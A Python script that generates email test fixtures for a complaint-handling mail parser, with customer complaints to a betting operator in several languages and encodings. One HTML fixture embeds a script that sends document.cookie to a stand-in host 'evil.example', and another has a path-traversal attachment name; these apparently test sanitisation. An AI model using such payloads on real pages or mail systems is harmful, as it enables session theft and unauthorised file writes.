#!/usr/bin/env python3
"""Writes the .eml fixtures of tests/inbound.rs as exact bytes (CRLF line ends, real
windows-1251 / KOI8-R / base64 / quoted-printable encodings). Run from this folder:
    python3 make_fixtures.py
The output is deterministic; the files are committed, so this only matters when changing them."""
import base64
import quopri

ALPHABET = "0123456789ABCDEFGHJKMNPQRSTVWXYZ"


def complaint_ref(bits):
    """The same as ombuds_core::ComplaintRef::from_bits (Luhn mod 32 check symbol)."""
    data = [ALPHABET[(bits >> (5 * (7 - i))) & 31] for i in range(8)]
    factor, total = 2, 0
    for s in reversed(data):
        v = ALPHABET.index(s) * factor
        total += v // 32 + v % 32
        factor = 1 if factor == 2 else 2
    check = ALPHABET[(32 - total % 32) % 32]
    s = "".join(data) + check
    return f"{s[0:3]}-{s[3:6]}-{s[6:9]}"


REF1 = complaint_ref(0x12_3456_789A)
REF2 = complaint_ref(0xAB_CDEF_0123)


def crlf(text):
    return text.replace("\r\n", "\n").replace("\n", "\r\n")


def b64(data, width=76):
    enc = base64.b64encode(data).decode()
    return "\r\n".join(enc[i:i + width] for i in range(0, len(enc), width))


def qp(text, charset="utf-8"):
    return quopri.encodestring(text.encode(charset)).decode("ascii").replace("\n", "\r\n")


def ew(text, charset="utf-8", enc="B"):
    raw = text.encode(charset)
    if enc == "B":
        return f"=?{charset}?B?{base64.b64encode(raw).decode()}?="
    body = "".join(
        "_" if b == 0x20 else (chr(b) if (0x30 <= b <= 0x39 or 0x41 <= b <= 0x5A or 0x61 <= b <= 0x7A) else f"={b:02X}")
        for b in raw
    )
    return f"=?{charset}?Q?{body}?="


def write(name, data):
    if isinstance(data, str):
        data = data.encode("ascii")
    with open(name, "wb") as f:
        f.write(data)


# 1. Gmail, multipart/alternative, Russian, withdrawal delayed. --------------------------------
plain = """Здравствуйте!

12 января я заказал вывод 150 000 тенге на карту Kaspi, заявка №48213.
Прошло уже 5 рабочих дней, статус «В обработке». Верификацию я прошёл в декабре.

Прошу ускорить выплату или объяснить причину задержки.

--
Айдар Нурланов
+7 701 555 12 34
"""
html = """<div dir="ltr"><div>Здравствуйте!</div><div><br></div><div>12 января я заказал вывод 150&nbsp;000 тенге на карту Kaspi, заявка №48213.</div><div>Прошло уже 5 рабочих дней, статус «В обработке». Верификацию я прошёл в декабре.</div><div><br></div><div>Прошу ускорить выплату или объяснить причину задержки.</div><div><br></div><span class="gmail_signature_prefix">-- </span><br><div dir="ltr" class="gmail_signature">Айдар Нурланов<br>+7 701 555 12 34</div></div>
"""
write("gmail_withdrawal_ru.eml", crlf(f"""MIME-Version: 1.0
Date: Mon, 19 Jan 2026 09:41:07 +0500
Message-ID: <CAF3k9x+Vq2m1LhZ@mail.gmail.com>
Subject: {ew("Задержка вывода средств, заявка №48213")}
From: {ew("Айдар Нурланов")} <Aidar.Nurlanov@GMail.com>
To: complaints@bet.example.kz
Content-Type: multipart/alternative; boundary="000000000000a1b2c3d4e5f6"

--000000000000a1b2c3d4e5f6
Content-Type: text/plain; charset="UTF-8"
Content-Transfer-Encoding: base64

""") + b64(plain.replace("\n", "\r\n").encode()) + crlf(f"""

--000000000000a1b2c3d4e5f6
Content-Type: text/html; charset="UTF-8"
Content-Transfer-Encoding: quoted-printable

""") + qp(html) + crlf("""
--000000000000a1b2c3d4e5f6--
"""))

# 2. Gmail reply in Kazakh quoting support. ----------------------------------------------------
plain = f"""Сәлеметсіз бе!

Құжаттарды екінші рет жібердім, бірақ аккаунтым әлі де бұғатталған.
Неге верификация өтпеді? Жеке куәлігімнің екі жағы да анық көрінеді.

дс, 12 қаң. 2026 ж. 15:20 Қолдау қызметі <support@bet.example.kz> жазды:

> Құрметті ойыншы!
> Сіздің өтінішіңіз {REF1} тіркелді. Жеке куәліктің көшірмесін жіберуіңізді
> сұраймыз.
>
> Құрметпен, қолдау қызметі
"""
html = f"""<div dir="ltr">Сәлеметсіз бе!<div><br></div><div>Құжаттарды екінші рет жібердім, бірақ аккаунтым әлі де бұғатталған.</div><div>Неге верификация өтпеді? Жеке куәлігімнің екі жағы да анық көрінеді.</div></div><br><div class="gmail_quote gmail_quote_container"><div dir="ltr" class="gmail_attr">дс, 12 қаң. 2026 ж. 15:20 Қолдау қызметі &lt;<a href="mailto:support@bet.example.kz">support@bet.example.kz</a>&gt; жазды:<br></div><blockquote class="gmail_quote" style="margin:0px 0px 0px 0.8ex;border-left:1px solid rgb(204,204,204);padding-left:1ex">Құрметті ойыншы!<br>Сіздің өтінішіңіз {REF1} тіркелді. Жеке куәліктің көшірмесін жіберуіңізді сұраймыз.<br><br>Құрметпен, қолдау қызметі</blockquote></div>
"""
write("gmail_reply_verification_kk.eml", crlf(f"""MIME-Version: 1.0
Date: Tue, 13 Jan 2026 08:02:44 +0500
Message-ID: <CAJ7yTq=9Zx0kP2w@mail.gmail.com>
In-Reply-To: <ombuds.7f3a9c@bet.example.kz>
References: <ombuds.1a2b3c@bet.example.kz>
 <ombuds.7f3a9c@bet.example.kz>
Subject: {ew("Re: [" + REF1 + "] Верификация ")}
 {ew("өтпеді")}
From: {ew("Әсел Қасымова")} <asel.kasymova@gmail.com>
To: {ew("Қолдау қызметі")} <support@bet.example.kz>
Content-Type: multipart/alternative; boundary="00000000000077aa88bb99cc"

--00000000000077aa88bb99cc
Content-Type: text/plain; charset="UTF-8"
Content-Transfer-Encoding: quoted-printable

""") + qp(plain) + crlf("""
--00000000000077aa88bb99cc
Content-Type: text/html; charset="UTF-8"
Content-Transfer-Encoding: base64

""") + b64(html.encode()) + crlf("""
--00000000000077aa88bb99cc--
"""))

# 3. Outlook, windows-1251, Russian reply with an "От: / Отправлено:" block. ------------------
plain = f"""Добрый день.

Ставка на матч «Кайрат» – «Астана» (купон 7734012) рассчитана как проигрыш,
хотя итоговый счёт 2:1 и я ставил на победу «Кайрата». Прошу пересчитать.

С уважением,
Сергей Ким

От: Служба поддержки <support@bet.example.kz>
Отправлено: 14 января 2026 г. 11:05
Кому: Сергей Ким <s.kim@corp.example.kz>
Тема: RE: Неверный расчёт ставки [{REF2}]

Уважаемый клиент! Ваше обращение {REF2} зарегистрировано.
"""
html = f"""<html xmlns:o="urn:schemas-microsoft-com:office:office"><head><meta http-equiv="Content-Type" content="text/html; charset=windows-1251"><style><!-- p.MsoNormal {{margin:0cm;}} --></style><!--[if gte mso 9]><xml><o:shapedefaults v:ext="edit" spidmax="1026" /></xml><![endif]--></head><body lang="RU"><div class="WordSection1"><p class="MsoNormal">Добрый день.<o:p></o:p></p><p class="MsoNormal"><o:p>&nbsp;</o:p></p><p class="MsoNormal">Ставка на матч «Кайрат» – «Астана» (купон 7734012) рассчитана как проигрыш, хотя итоговый счёт 2:1 и я ставил на победу «Кайрата». Прошу пересчитать.<o:p></o:p></p><p class="MsoNormal"><o:p>&nbsp;</o:p></p><p class="MsoNormal">С уважением,<o:p></o:p></p><p class="MsoNormal">Сергей Ким<o:p></o:p></p><p class="MsoNormal"><o:p>&nbsp;</o:p></p><div style="border:none;border-top:solid #E1E1E1 1.0pt;padding:3.0pt 0cm 0cm 0cm"><p class="MsoNormal"><b>От:</b> Служба поддержки &lt;support@bet.example.kz&gt;<br><b>Отправлено:</b> 14 января 2026 г. 11:05<br><b>Кому:</b> Сергей Ким &lt;s.kim@corp.example.kz&gt;<br><b>Тема:</b> RE: Неверный расчёт ставки [{REF2}]<o:p></o:p></p></div><p class="MsoNormal"><o:p>&nbsp;</o:p></p><p class="MsoNormal">Уважаемый клиент! Ваше обращение {REF2} зарегистрировано.<o:p></o:p></p></div></body></html>
"""
write("outlook_bet_settlement_cp1251.eml", crlf(f"""From: =?windows-1251?B?{base64.b64encode("Сергей Ким".encode("cp1251")).decode()}?= <s.kim@Corp.Example.KZ>
To: =?windows-1251?B?{base64.b64encode("Служба поддержки".encode("cp1251")).decode()}?= <support@bet.example.kz>
Subject: {ew("RE: Неверный расчёт ставки [" + REF2 + "]", "windows-1251", "Q")}
Thread-Topic: {ew("Неверный расчёт ставки", "windows-1251")}
Thread-Index: AQHcgT1p2m3nNwq4k0eKzJm3Yv8l0Q==
Date: Wed, 14 Jan 2026 07:31:12 +0000
Message-ID: <DB9PR0301MB5401A1B2C3D4E5F6@DB9PR0301MB5401.eurprd03.prod.outlook.com>
References: <ombuds.aa11bb22@bet.example.kz>
In-Reply-To: <ombuds.aa11bb22@bet.example.kz>
Accept-Language: ru-RU, en-US
Content-Language: ru-RU
X-MS-Has-Attach:
X-Auto-Response-Suppress: All
Content-Type: multipart/alternative;
	boundary="_000_DB9PR0301MB5401A1B2C3D4E5F6DB9PR0301MB5401eurprd03prod_"
MIME-Version: 1.0

--_000_DB9PR0301MB5401A1B2C3D4E5F6DB9PR0301MB5401eurprd03prod_
Content-Type: text/plain; charset="windows-1251"
Content-Transfer-Encoding: quoted-printable

""") + qp(plain, "cp1251") + crlf("""
--_000_DB9PR0301MB5401A1B2C3D4E5F6DB9PR0301MB5401eurprd03prod_
Content-Type: text/html; charset="windows-1251"
Content-Transfer-Encoding: quoted-printable

""") + qp(html, "cp1251") + crlf("""
--_000_DB9PR0301MB5401A1B2C3D4E5F6DB9PR0301MB5401eurprd03prod_--
"""))

# 4. KOI8-R, 8bit, old Unix client, account verification. --------------------------------------
body = """Здравствуйте.

Мой аккаунт заблокирован после пополнения, служба безопасности требует
фото с паспортом в руке. Я отправил фото три раза, ответа нет.
Логин: ivanov_p, ID клиента 5520193.

Петр Иванов
"""
write("koi8r_account_blocked.eml", crlf(f"""Return-Path: <petr@ivanov.example.ru>
Received: from mx.example.ru (mx.example.ru [198.51.100.7])
	by mx.bet.example.kz with ESMTPS id 4Q2x; Thu, 15 Jan 2026 10:00:01 +0500
Date: Thu, 15 Jan 2026 08:00:00 +0300
From: {ew("Петр Иванов", "koi8-r", "Q")} <petr@ivanov.example.ru>
To: complaints@bet.example.kz
Subject: {ew("Блокировка аккаунта", "koi8-r", "B")}
Message-ID: <20260115050000.GA1234@ivanov.example.ru>
MIME-Version: 1.0
Content-Type: text/plain; charset=koi8-r
Content-Disposition: inline
Content-Transfer-Encoding: 8bit
User-Agent: Mutt/2.2.12 (2023-09-09)

""").encode("ascii") + crlf(body).encode("koi8_r"))

# 5. Yandex, HTML-only reply about a bonus, Yandex attribution. -------------------------------
html = f"""<div>Бонус 20 000 ₸ за регистрацию так и не начислили, хотя условия акции я выполнил: депозит 10 000 ₸ в течение суток.</div><div>Скриншот личного кабинета могу прислать.</div><div>&nbsp;</div><div>-- </div><div>Тимур</div><div>&nbsp;</div><div>16.01.2026, 12:40, "Служба поддержки" &lt;support@bet.example.kz&gt;:</div><blockquote><div>Здравствуйте! Уточните, пожалуйста, дату регистрации.</div><div>Обращение {REF1}.</div></blockquote>
"""
write("yandex_bonus_reply_html.eml", crlf(f"""Received: from mail-nwsmtp-smtp-production-main-12.vla.yp-c.yandex.net ([127.0.0.1])
	by mx.bet.example.kz; Fri, 16 Jan 2026 13:02:10 +0500
From: {ew("Тимур")} <timur.b@yandex.kz>
To: {ew("Служба поддержки")} <support@bet.example.kz>
In-Reply-To: <ombuds.cc33dd44@bet.example.kz>
References: <ombuds.cc33dd44@bet.example.kz>
Subject: {ew("Re: [" + REF1 + "] Бонус")}
MIME-Version: 1.0
X-Mailer: Yamail [ http://yandex.ru ] 5.0
Date: Fri, 16 Jan 2026 13:02:09 +0500
Message-Id: <1234561768550129@mail.yandex.kz>
Content-Transfer-Encoding: base64
Content-Type: text/html; charset=utf-8

""") + b64(html.encode()) + "\r\n")

# 6. Mail.ru mobile, plain base64, Mail.ru attribution and mobile signature. ------------------
plain = f"""Деньги до сих пор не пришли на карту. Сколько ещё ждать?

Отправлено из мобильной Почты Mail.ru

Понедельник, 19 января 2026, 10:15 +05:00 от Служба поддержки <support@bet.example.kz>:
>Здравствуйте! Выплата по заявке {REF2} передана в банк.
>Обычно зачисление занимает до 3 рабочих дней.
"""
write("mailru_mobile_withdrawal.eml", crlf(f"""Received: from [10.161.64.58] (port=41022 helo=m.mail.ru)
	by smtp50.i.mail.ru; Wed, 21 Jan 2026 09:12:55 +0300
From: {ew("Гульнара Сапарова")} <gulnara_s@mail.ru>
To: support@bet.example.kz
Subject: {ew("Re: [" + REF2 + "] Вывод средств")}
MIME-Version: 1.0
X-Mailer: Mail.Ru Mailer 1.0
Date: Wed, 21 Jan 2026 09:12:55 +0300
Reply-To: {ew("Гульнара Сапарова")} <gulnara_s@mail.ru>
X-Priority: 3 (Normal)
Message-ID: <1768975975.281937412@f501.i.mail.ru>
In-Reply-To: <ombuds.ee55ff66@bet.example.kz>
Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: base64

""") + b64(plain.replace("\n", "\r\n").encode()) + "\r\n")

# 7. HTML-only with script, remote image, list, links; English. --------------------------------
html = """<!DOCTYPE html>
<html><head><title>Complaint</title><style>body { font-family: Arial; }</style>
<script>document.location='https://evil.example/steal?c='+document.cookie</script></head>
<body>
<div style="display:none;max-height:0;overflow:hidden">Preview text you should not see</div>
<p>Hello,</p>
<p>The <b>welcome bonus</b> terms on your site say the wagering requirement is x5, but my account shows x35:</p>
<ul>
  <li>Deposit: 50&nbsp;000 KZT on 10 January</li>
  <li>Bonus credited: 50&nbsp;000 KZT</li>
  <li>Wagering shown: x35 &mdash; <a href="https://bet.example.kz/promo/welcome">see the promo page</a></li>
</ul>
<p>Please correct it.<br>Thank you,<br>Daniyar</p>
<img src="https://tracker.example.net/open.gif?u=8812" width="1" height="1" alt="">
<img src="https://cdn.example.net/logo.png" alt="Daniyar's logo">
</body></html>
"""
write("html_only_bonus_en.eml", crlf("""From: Daniyar Seitkali <daniyar@seitkali.example.com>
To: complaints@bet.example.kz
Subject: Welcome bonus wagering requirement is wrong
Date: Sat, 17 Jan 2026 21:14:03 +0600
Message-ID: <5f1e2d3c4b5a@seitkali.example.com>
MIME-Version: 1.0
Content-Type: text/html; charset=us-ascii
Content-Transfer-Encoding: 7bit

""" + html))

# 8. Apple Mail, format=flowed, English reply, "Sent from my iPhone". -------------------------
# Built by hand: flowed lines end in a space (here the long first line is split in two).
flowed = ("My bet on Barys vs Ak Bars (ticket 99120) was voided, but the match was played \r\n"
          "and finished 3:2. Why was it voided? I want it settled as a win.\r\n"
          "\r\n"
          "Sent from my iPhone\r\n"
          "\r\n"
          "> On 18 Jan 2026, at 10:00, Support <support@bet.example.kz> wrote:\r\n"
          "> \r\n"
          f"> Dear customer, your request {REF1} has been registered.\r\n")
write("apple_flowed_reply_en.eml", crlf(f"""Content-Type: text/plain;
	charset=us-ascii;
	format=flowed;
	delsp=no
Content-Transfer-Encoding: 7bit
Mime-Version: 1.0 (1.0)
Subject: Re: [{REF1}] Voided bet
From: Yerlan Abenov <yerlan.abenov@icloud.com>
In-Reply-To: <ombuds.0101@bet.example.kz>
Date: Sun, 18 Jan 2026 11:02:31 +0500
Message-Id: <8F2D1A6C-77B2-4C1E-9E7A-2C3B4D5E6F70@icloud.com>
References: <ombuds.0100@bet.example.kz> <ombuds.0101@bet.example.kz>
To: Support <support@bet.example.kz>
X-Mailer: iPhone Mail (22C152)

""") + flowed)

# 9. Attachments: screenshot (RFC 2231 Cyrillic name), small PDF, one too large, traversal name.
png = bytes.fromhex("89504e470d0a1a0a0000000d4948445200000001000000010806000000"
                    "1f15c4890000000d49444154789c6360000002000154a24f5d0000000049454e44ae426082")
pdf = b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Count 0/Kids[]>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
big = bytes((i * 7919 + 13) % 251 for i in range(60_000))
text = """Добрый вечер. Прикладываю скриншот истории ставок, чек об оплате и выписку банка.
Депозит 25 000 тенге не зачислен на игровой счёт.
"""
write("attachments_deposit_ru.eml", crlf(f"""From: {ew("Марат Жумабаев")} <marat.zh@example.kz>
To: complaints@bet.example.kz
Subject: {ew("Депозит не зачислен")}
Date: Mon, 19 Jan 2026 18:20:00 +0500
Message-ID: <deposit-0001@example.kz>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="mixed-boundary-42"

--mixed-boundary-42
Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: 8bit

""").encode() + crlf(text).encode() + crlf(f"""
--mixed-boundary-42
Content-Type: image/png
Content-Disposition: attachment; filename*=utf-8''%D1%81%D0%BA%D1%80%D0%B8%D0%BD%D1%88%D0%BE%D1%82.png
Content-Transfer-Encoding: base64

""").encode() + b64(png).encode() + crlf("""
--mixed-boundary-42
Content-Type: application/pdf; name="../../../etc/receipt.pdf"
Content-Disposition: attachment; filename="../../../etc/receipt.pdf"
Content-Transfer-Encoding: base64

""").encode() + b64(pdf).encode() + crlf(f"""
--mixed-boundary-42
Content-Type: application/pdf; name="{ew("выписка.pdf")}"
Content-Disposition: attachment
Content-Transfer-Encoding: base64

""").encode() + b64(big).encode() + crlf("""
--mixed-boundary-42--
""").encode())

# 10. Exchange auto-reply in Russian. ----------------------------------------------------------
write("autoreply_exchange_ru.eml", crlf(f"""From: {ew("Ольга Петрова")} <o.petrova@corp.example.kz>
To: support@bet.example.kz
Subject: {ew("Автоматический ответ: [" + REF2 + "] Ваше обращение зарегистрировано")}
Date: Tue, 20 Jan 2026 04:00:03 +0000
Message-ID: <autoreply-5512@corp.example.kz>
In-Reply-To: <ombuds.ab12@bet.example.kz>
References: <ombuds.ab12@bet.example.kz>
Auto-Submitted: auto-replied
X-MS-Exchange-Inbox-Rules-Loop: o.petrova@corp.example.kz
X-Auto-Response-Suppress: All
MIME-Version: 1.0
Content-Type: text/plain; charset="utf-8"
Content-Transfer-Encoding: base64

""") + b64("Я в отпуске до 2 февраля. По срочным вопросам пишите на office@corp.example.kz.\r\n".encode()) + "\r\n")

# 11. DSN bounce returning our own message's headers. ------------------------------------------
write("dsn_bounce.eml", crlf(f"""Return-Path: <>
Received: from mx.bet.example.kz by mx.bet.example.kz; Tue, 20 Jan 2026 10:00:05 +0500
From: Mail Delivery System <MAILER-DAEMON@mx.bet.example.kz>
To: support@bet.example.kz
Subject: Undelivered Mail Returned to Sender
Date: Tue, 20 Jan 2026 10:00:05 +0500
Message-Id: <20260120050005.4B2C31A0042@mx.bet.example.kz>
Auto-Submitted: auto-replied
MIME-Version: 1.0
Content-Type: multipart/report; report-type=delivery-status;
	boundary="4B2C31A0042.1768885205/mx.bet.example.kz"

This is a MIME-encapsulated message.

--4B2C31A0042.1768885205/mx.bet.example.kz
Content-Description: Notification
Content-Type: text/plain; charset=us-ascii

This is the mail system at host mx.bet.example.kz.

I'm sorry to have to inform you that your message could not
be delivered to one or more recipients.

<no.such.player@example.kz>: host mx.example.kz[203.0.113.5] said: 550 5.1.1
    User unknown (in reply to RCPT TO command)

--4B2C31A0042.1768885205/mx.bet.example.kz
Content-Description: Delivery report
Content-Type: message/delivery-status

Reporting-MTA: dns; mx.bet.example.kz
Arrival-Date: Tue, 20 Jan 2026 10:00:01 +0500

Final-Recipient: rfc822; no.such.player@example.kz
Action: failed
Status: 5.1.1
Diagnostic-Code: smtp; 550 5.1.1 User unknown

--4B2C31A0042.1768885205/mx.bet.example.kz
Content-Description: Undelivered Message Headers
Content-Type: text/rfc822-headers

From: support@bet.example.kz
To: no.such.player@example.kz
Subject: [{REF2}] Your complaint is registered
Message-ID: <ombuds.ab12@bet.example.kz>
X-Ombuds-Ref: {REF2}

--4B2C31A0042.1768885205/mx.bet.example.kz--
"""))

# 12. A forwarded operator e-mail as message/rfc822. ------------------------------------------
write("forwarded_rfc822_ru.eml", crlf(f"""From: {ew("Ерлан Сейткали")} <yerlan.s@example.kz>
To: complaints@bet.example.kz
Subject: {ew("Fwd: Отказ в выплате")}
Date: Wed, 21 Jan 2026 14:00:00 +0500
Message-ID: <fwd-7781@example.kz>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="fwd-boundary"

--fwd-boundary
Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: 8bit

""").encode() + crlf("""Пересылаю ответ букмекера. Считаю отказ незаконным.
""").encode() + crlf(f"""
--fwd-boundary
Content-Type: message/rfc822

From: {ew("Служба безопасности")} <security@bookmaker.example.com>
To: yerlan.s@example.kz
Subject: {ew("Отказ в выплате")}
Date: Tue, 20 Jan 2026 16:30:00 +0300
Message-ID: <sec-1122@bookmaker.example.com>
MIME-Version: 1.0
Content-Type: text/plain; charset=windows-1251
Content-Transfer-Encoding: quoted-printable

""").encode() + qp("""Уважаемый клиент! В выплате отказано в связи с нарушением п. 4.2 правил.
""", "cp1251").encode() + crlf("""
--fwd-boundary--
""").encode())

# 13. 8-bit windows-1251 without any charset, raw 8-bit Subject. ------------------------------
write("cp1251_undeclared.eml", crlf("""From: Vasya <vasya@old.example.ru>
To: complaints@bet.example.kz
Date: Thu, 22 Jan 2026 10:00:00 +0300
Message-ID: <old-client-1@old.example.ru>
MIME-Version: 1.0
Content-Type: text/plain
Content-Transfer-Encoding: 8bit
""").encode("ascii") + "Subject: Жалоба на коэффициенты\r\n\r\n".encode("cp1251")
      + crlf("""Коэффициент изменили после того, как я сделал ставку.
Прошу вернуть деньги.
""").encode("cp1251"))

# 14. A newsletter: bulk. ----------------------------------------------------------------------
write("bulk_newsletter.eml", crlf("""From: Casino News <news@promo.example.com>
To: complaints@bet.example.kz
Subject: Weekly jackpots are here!
Date: Thu, 22 Jan 2026 06:00:00 +0000
Message-ID: <nl-2026-03@promo.example.com>
Precedence: bulk
List-Unsubscribe: <https://promo.example.com/u/abc>, <mailto:unsub@promo.example.com>
List-Unsubscribe-Post: List-Unsubscribe=One-Click
MIME-Version: 1.0
Content-Type: text/plain; charset=utf-8

Win big this week!
"""))

# 15. Kazakh in KZ-1048, declared. -------------------------------------------------------------
write("kz1048_declared.eml", crlf(f"""From: {ew("Нұрлан")} <nurlan@example.kz>
To: complaints@bet.example.kz
Subject: {ew("Ұтыс төленбеді")}
Date: Thu, 22 Jan 2026 12:00:00 +0500
Message-ID: <kz-1048-1@example.kz>
MIME-Version: 1.0
Content-Type: text/plain; charset=kz-1048
Content-Transfer-Encoding: quoted-printable

""") + qp("Сәлеметсіз бе! Ұтысым әлі күнге дейін төленген жоқ, өтінемін көмектесіңіз.\n", "kz1048"))

print("refs:", REF1, REF2)
